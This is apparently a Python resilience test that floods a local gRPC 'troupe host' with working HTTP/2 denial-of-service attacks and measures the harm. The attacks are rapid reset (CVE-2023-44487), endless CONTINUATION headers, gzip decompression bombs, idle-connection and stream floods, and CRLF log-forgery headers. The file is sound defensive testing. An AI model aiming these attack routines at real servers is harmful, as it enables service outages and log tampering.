"""What strangers can do to a live 'troupe host' who have no token, and how it fares meanwhile.

    bazel run --config=opt //tests/remote:attacks_test -- --seconds 60 --patience 1 [--attack NAME]

Each attack runs in processes of its own for so long, on loopback. Meanwhile and afterwards an
honest client, who has the token, asks on a connection that it had before and on new ones. At the
end of each attack this prints what the host took, and how long the client waited. Watches are only
tried where they are named."""

import argparse
import gzip
import os
import pathlib
import resource
import select
import signal
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time

ROOT = pathlib.Path(os.environ.get("TEST_SRCDIR", ".")) / os.environ.get("TEST_WORKSPACE", "")
TROUPE = str(ROOT / "cli/troupe")
TOKEN = "a-token-that-no-stranger-knows"
MOST_MEMORY = 300_000_000
FORGED = "troupe: FORGED by a stranger"

# --- HTTP/2, as far as attackers need it ---------------------------------------------------------

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, CONTINUATION = 0, 1, 3, 4, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(
        ">I", stream) + payload


def number(value, bits, first=0):
    """An HPACK integer with a prefix of so many bits."""
    most = (1 << bits) - 1
    if value < most:
        return bytes([first | value])
    out, value = [first | most], value - most
    while value >= 128:
        out.append(value % 128 | 128)
        value //= 128
    return bytes(out + [value])


def text(value):
    return number(len(value), 7) + value


def header(name, value):
    return b"\0" + text(name) + text(value)


def call_headers(path, *more):
    return (b"\x83\x86" + number(4, 4) + text(path) + number(1, 4) + text(b"localhost") +
            header(b"content-type", b"application/grpc") + header(b"te", b"trailers") +
            b"".join(header(name, value) for name, value in more))


def message(payload, compressed=False):
    return struct.pack(">BI", compressed, len(payload)) + payload


def connect(address, source=None):
    host, port = address.rsplit(":", 1)
    connection = socket.socket()
    connection.settimeout(2)
    if source is not None:
        connection.bind((source, 0))
    connection.connect((host, int(port)))
    return connection


def begin(address, source=None):
    connection = connect(address, source)
    connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
    return connection


def drain(connection):
    """What has come is thrown away; False at the end of the connection."""
    poll = select.poll()
    poll.register(connection, select.POLLIN)
    while poll.poll(0):
        try:
            if not connection.recv(1 << 16):
                return False
        except OSError:
            return False
    return True


def repeated(address, seconds, use, source=None):
    """Uses one connection after the other. `use` gives False where it wants another one."""
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            connection = begin(address, source() if source else None)
        except OSError:
            time.sleep(0.05)  # Nobody listens just now: not a busy loop.
            continue
        try:
            state = {}
            while time.monotonic() < end and drain(connection) and use(connection, state):
                pass
        except OSError:
            pass
        connection.close()


# --- Attacks -------------------------------------------------------------------------------------


def idle_connections(address, seconds):
    """Opens three thousand connections and says nothing, or no more than who it is."""
    connections = []
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            if len(connections) < 3000:
                opened = begin if len(connections) % 2 else connect
                connections.append(opened(address))
                continue
        except OSError:
            pass
        time.sleep(0.05)
        connections = [one for one in connections if drain(one)]


def rapid_resets(address, seconds):
    """Begins calls and takes them back at once: CVE-2023-44487."""
    block = call_headers(b"/troupe.actors.Host/lookup")

    def use(connection, state):
        batch = []
        for _ in range(100):
            stream = state["stream"] = state.get("stream", -1) + 2
            batch.append(frame(HEADERS, END_HEADERS, stream, block))
            batch.append(frame(RST_STREAM, 0, stream, struct.pack(">I", 8)))
        connection.sendall(b"".join(batch))
        return True

    repeated(address, seconds, use)


def endless_headers(address, seconds):
    """Headers that go on for ever: CVE-2024-27316 and its like."""
    more = header(b"x-stranger", b"x" * 8000)

    def use(connection, state):
        if not state:
            state["begun"] = True
            connection.sendall(frame(HEADERS, 0, 1, call_headers(b"/troupe.actors.Host/lookup")))
        connection.sendall(b"".join(frame(CONTINUATION, 0, 1, more) for _ in range(16)))
        return True

    repeated(address, seconds, use)


def compressed_floods(address, seconds):
    """A fifth of a megabyte that two hundred have been compressed into."""
    bomb = message(gzip.compress(bytes(200_000_000)), compressed=True)

    def use(connection, state):
        stream = state["stream"] = state.get("stream", -1) + 2
        path = (b"/troupe.actors.Host/lookup", b"/troupe.remote.Dispatcher/Connect",
                b"/grpc.health.v1.Health/Check")[stream // 2 % 3]
        block = call_headers(path, (b"grpc-encoding", b"gzip"))
        connection.sendall(frame(HEADERS, END_HEADERS, stream, block))
        for at in range(0, len(bomb), 16384):
            connection.sendall(frame(DATA, 0, stream, bomb[at:at + 16384]))
            if not drain(connection):
                return False
        return stream < 200

    repeated(address, seconds, use)


def watches(address, seconds):
    """As many streams of the health service as there can be, on twenty connections."""
    block = call_headers(b"/grpc.health.v1.Health/Watch")
    connections = []
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            if len(connections) < 20:
                connection = begin(address)
                for stream in range(1, 2001, 2):
                    connection.sendall(frame(HEADERS, END_HEADERS, stream, block) +
                                       frame(DATA, END_STREAM, stream, message(b"")))
                connections.append(connection)
        except OSError:
            pass
        time.sleep(0.01)
        connections = [one for one in connections if drain(one)]


def forged_log_lines(address, seconds):
    """Headers with line ends and words of the log in them, from many addresses."""
    forged = b"Bearer x\n" + FORGED.encode() + b"\r\n"
    sources = iter(range(1, 1 << 22))

    def source():
        at = next(sources)
        return f"127.{10 + (at >> 14) % 200}.{(at >> 7) % 128}.{1 + at % 127}"

    def use(connection, state):
        for stream in range(1, 41, 2):
            path = (b"/troupe.remote.Dispatcher/Connect", b"/troupe.actors.Host/lookup",
                    b"/x\n" + FORGED.encode())[stream // 2 % 3]
            block = call_headers(path, (b"authorization", forged),
                                 (b"troupe-actor", FORGED.encode() * 20 + b"\n"))
            connection.sendall(frame(HEADERS, END_HEADERS, stream, block) +
                               frame(DATA, END_STREAM, stream, message(b"\n" + FORGED.encode())))
        time.sleep(0.01)
        return False

    repeated(address, seconds, use, source)


ATTACKS = {
    attack.__name__: attack
    for attack in (idle_connections, rapid_resets, endless_headers, compressed_floods, watches,
                   forged_log_lines)
}

# --- The host, and who uses it -------------------------------------------------------------------


class Host:
    """A 'troupe host' with a token, and what it takes."""

    def __init__(self, folder, most_descriptors=None):
        token = pathlib.Path(folder) / "token"
        token.write_text(TOKEN)
        token.chmod(0o600)
        self.log = open(pathlib.Path(folder) / "log", "w+b")

        def limit():
            if most_descriptors is not None:
                resource.setrlimit(resource.RLIMIT_NOFILE, (most_descriptors, most_descriptors))

        self.process = subprocess.Popen(
            [TROUPE, "host", "--listen", "127.0.0.1:0", "--token-file", str(token)],
            stdout=subprocess.PIPE, stderr=self.log, text=True, preexec_fn=limit)
        self.address = self.process.stdout.readline().split()[2]

    def status(self, key):
        for line in open(f"/proc/{self.process.pid}/status"):
            if line.startswith(key):
                return int(line.split()[1]) * 1024
        raise KeyError(key)

    def processor(self):
        """Seconds of processor since its start."""
        fields = open(f"/proc/{self.process.pid}/stat").read().rsplit(")", 1)[1].split()
        return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")

    def end(self):
        self.process.send_signal(signal.SIGTERM)
        try:
            return self.process.wait(timeout=60)
        except subprocess.TimeoutExpired:
            return "SIGKILL only, a minute after SIGTERM"
        finally:
            self.process.kill()
            self.process.stdout.close()


class HonestClient:
    """Asks for a name that nobody has, again and again. Remembers the longest wait."""

    def __init__(self, host):
        import grpc  # Not in the processes of attackers.
        self.grpc = grpc
        self.host = host
        self.longest = {"same": 0.0, "new": 0.0}
        self.answers = {"same": 0, "new": 0}
        self.failures = []
        self.ended = threading.Event()
        self.threads = [
            threading.Thread(target=self.ask, args=(how,)) for how in self.longest
        ]
        for thread in self.threads:
            thread.start()

    def channel(self):
        options = [("grpc.use_local_subchannel_pool", 1)]
        return self.grpc.insecure_channel(self.host.address, options)

    def ask_once(self, channel, timeout=60):
        stub = channel.unary_unary("/troupe.actors.Host/lookup")
        try:
            metadata = (("authorization", f"Bearer {TOKEN}"),)
            stub(b"\n\6nobody", timeout=timeout, metadata=metadata)
        except self.grpc.RpcError as error:
            if error.code() != self.grpc.StatusCode.NOT_FOUND:
                self.failures.append(f"{error.code()}: {error.details()}")
                return False
        return True

    def ask(self, how):
        channel = self.channel()
        while not self.ended.is_set():
            if how == "new":
                channel.close()
                channel = self.channel()
            began = time.monotonic()
            if self.ask_once(channel):
                self.answers[how] += 1
            self.longest[how] = max(self.longest[how], time.monotonic() - began)
            self.ended.wait(0.05)
        channel.close()

    def end(self):
        self.ended.set()
        for thread in self.threads:
            thread.join()

    def serves_within(self, seconds):
        """How long it takes until a new connection is served; None: longer than that."""
        began = time.monotonic()
        while time.monotonic() < began + seconds:
            channel = self.channel()
            served = self.ask_once(channel, timeout=seconds)
            channel.close()
            if served:
                return time.monotonic() - began
        return None


def measure(name, seconds, processes, patience):
    """Gives what was wrong, a line each."""
    with tempfile.TemporaryDirectory(dir=os.environ.get("TEST_TMPDIR")) as folder:
        host = Host(folder)
        client = HonestClient(host)
        time.sleep(0.3)  # Meanwhile it has connected.
        before = host.status("VmRSS:")
        began, processor_before = time.monotonic(), host.processor()
        attackers = [
            subprocess.Popen([sys.executable, "-B", __file__, "--as-attacker", name, "--address",
                              host.address, "--seconds", str(seconds)])
            for _ in range(processes)
        ]
        try:
            for attacker in attackers:
                attacker.wait(timeout=seconds + 120)
            cores = (host.processor() - processor_before) / (time.monotonic() - began)
            client.end()
            after = client.serves_within(patience)
            time.sleep(1)  # What the host may take to tidy up.
            rest = host.status("VmRSS:")
            peak = host.status("VmHWM:")
            ended = host.end()
        finally:
            for attacker in attackers:
                attacker.kill()
            client.ended.set()
            host.process.kill()
        host.log.seek(0)
        log = host.log.read().decode(errors="replace").splitlines()
        forged = [line for line in log if line.startswith(FORGED)]
        print(f"{name:18} {seconds:4.0f} s: memory {before / 1e6:.0f} MB before, at most "
              f"{peak / 1e6:.0f} MB, {rest / 1e6:.0f} MB a second after; "
              f"processor {cores:.2f} cores; "
              f"a client waited at most {client.longest['same']:.2f} s "
              f"({client.answers['same']} answers), on a new connection "
              f"{client.longest['new']:.2f} s ({client.answers['new']}); "
              f"served {'never' if after is None else f'{after:.2f} s'} after; "
              f"{len(log)} log lines", flush=True)
        wrong = [f"a client failed: {failure}" for failure in client.failures[:3]]
        if peak > MOST_MEMORY:
            wrong.append(f"memory went up to {peak / 1e6:.0f} MB")
        for how, longest in client.longest.items():
            if longest > patience:
                wrong.append(f"a client waited {longest:.1f} s on the {how} connection")
        if after is None:
            wrong.append("there was no service after the attack")
        if forged:
            wrong.append(f"a line of the log was forged: {forged[0]}")
        if len(log) > 51 * (seconds + 10):
            wrong.append(f"there were {len(log)} lines in the log")
        if ended != 0:
            wrong.append(f"the host ended with {ended}")
        return [f"{name}: {line}" for line in wrong]


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--seconds", type=float, default=2)
    parser.add_argument("--attack", choices=ATTACKS, action="append")
    parser.add_argument("--processes", type=int, default=1, help="that attack at the same time")
    parser.add_argument("--patience", type=float, default=60,
                        help="for how many seconds an honest client may wait")
    parser.add_argument("--as-attacker", choices=ATTACKS, help=argparse.SUPPRESS)
    parser.add_argument("--address", help=argparse.SUPPRESS)
    arguments = parser.parse_args()
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    if arguments.as_attacker:
        ATTACKS[arguments.as_attacker](arguments.address, arguments.seconds)
        return 0
    wrong = []
    # What watches take is not bounded well: see docs/security.md.
    for name in arguments.attack or [name for name in ATTACKS if name != "watches"]:
        wrong += measure(name, arguments.seconds, arguments.processes, arguments.patience)
    for line in wrong:
        print(f"FAILED {line}")
    return 1 if wrong else 0


if __name__ == "__main__":
    sys.exit(main())
